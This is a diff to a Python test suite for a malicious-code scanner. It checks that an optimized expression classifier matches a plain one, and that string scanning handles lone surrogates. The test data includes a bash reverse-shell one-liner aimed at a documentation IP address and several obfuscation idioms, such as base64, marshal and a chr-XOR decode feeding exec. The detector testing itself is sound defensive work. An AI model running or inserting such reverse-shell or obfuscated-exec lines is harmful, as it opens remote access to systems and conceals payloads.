@@ -1,6 +1,7 @@
 """The cheap paths of the scanner give exactly what the plain ones gave: the reduced
 node list, the bounded walk, one-pass character counts, local decoders found without
-walking every function, and the collector paused only for the analysis."""
+walking every function, an expression's kind by an inlined walk, and the collector
+paused only for the analysis."""
 
 from __future__ import annotations
 
@@ -11,6 +12,7 @@ import itertools
 import pytest
 from code_fixtures import BENIGN_PKG, MISS_HATCH_HOOK, MISS_SETUP_IMPORT
 
+from detector.code import decode
 from detector.code.analyze import (
     OPERATOR_CHARS,
     PARSE_UNIT_CHARS,
@@ -18,7 +20,18 @@ from detector.code.analyze import (
     operator_density,
     parse_units,
 )
-from detector.code.pyast import READ, collect_aliases, flatten, local_decoders, walk
+from detector.code.pyast import (
+    NETWORK_PREFIX,
+    READ,
+    FileScan,
+    collect_aliases,
+    flatten,
+    local_decoders,
+    qualified,
+    walk,
+)
+from detector.code.regex import encodable
+from detector.code.textscan import scan_strings
 
 SOURCES = [
     "import os\nx = os.system('id')\n",
@@ -94,3 +107,68 @@ def test_collector_is_paused_during_analysis_and_restored(enabled, monkeypatch):
         assert gc.isenabled() is enabled
     finally:
         gc.enable()
+
+
+def _plain_kind(scan: FileScan, node: ast.AST, limit: int) -> str:
+    """The generic version `FileScan._walked_kind` replaces: `isinstance` tests on each
+    node of the bounded walk."""
+    kind = "dynamic"
+    for sub in walk(node, limit):
+        if isinstance(sub, ast.Name) and sub.id in scan.tainted:
+            return scan.tainted[sub.id]
+        if isinstance(sub, ast.Subscript) and isinstance(sub.slice, ast.Slice) and \
+                isinstance(sub.slice.step, ast.UnaryOp):
+            return "decode"
+        if isinstance(sub, ast.Call):
+            name = qualified(sub.func, scan.aliases) or ""
+            last = name.rsplit(".", 1)[-1]
+            if name.startswith(NETWORK_PREFIX) or last in ("urlopen", "urlretrieve"):
+                return "net"
+            if last in decode.DECODE_NAMES or name in scan.folder.decoders or \
+                    name.startswith(("marshal.", "zlib.", "lzma.", "bz2.", "codecs.")):
+                return "decode"
+            if last == "chr" or (last == "join" and "chr" in scan.source(sub)):
+                return "decode"
+            if last in ("open", "read", "read_text"):
+                kind = "local-file"
+    return kind
+
+
+KIND_SOURCES = [
+    *SOURCES,
+    # every answer, each behind the others in breadth-first order, and cut by the limit
+    "import base64, urllib.request as u, marshal\nt = base64.b64decode('aGk=')\n"
+    "x = f(open(p).read(), g(t), u.urlopen(h))\ny = a[::-1] + ''.join(chr(c) for c in z)\n"
+    "w = [[[[marshal.loads(b)]]], requests.get(q), t, p.read_text()]\n"
+    "v = {k: (lambda: zlib.decompress(k))() for k in open('f')}\n",
+    "out = ''\nfor c in s:\n    out += chr(ord(c) ^ 3)\nr = exec(out)\n",
+]
+
+
+@pytest.mark.parametrize("source", KIND_SOURCES)
+def test_inlined_kind_walk_matches_the_plain_walk(source):
+    nodes = flatten(ast.parse(source))
+    scan = FileScan("x.py", nodes, "install", lambda text, line: [])
+    scan.tainted.update({"t": "decode", "z": "net"})
+    expressions = [n for n in ast.walk(ast.parse(source)) if isinstance(n, ast.expr)]
+    answers = set()
+    for node in expressions:
+        for limit in (0, 1, 2, 5, 12, 5000):
+            expected = _plain_kind(scan, node, limit)
+            assert scan._walked_kind(node, limit) == expected
+            answers.add(expected)
+    if source in KIND_SOURCES[-2:]:  # the tricky cases reach the answers they test
+        assert {"decode", "dynamic"} <= answers
+    if source == KIND_SOURCES[-2]:
+        assert {"net", "local-file"} <= answers
+
+
+def test_string_scan_replaces_lone_surrogates_once_with_the_same_findings():
+    shell = "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"
+    strings = [(1, "a\ud800b"), (2, "\udfff" + shell), (3, "plain text here"),
+               (4, "x\ud83d\ude00" + shell), (5, shell)]
+    found = scan_strings("s.py", "install", strings, 10_000, 10)
+    replaced = scan_strings("s.py", "install", [(n, encodable(t)) for n, t in strings],
+                            10_000, 10)
+    assert [f.to_dict() for f in found] == [f.to_dict() for f in replaced]
+    assert {f.line for f in found if f.rule == "reverse-shell"} == {2, 4, 5}
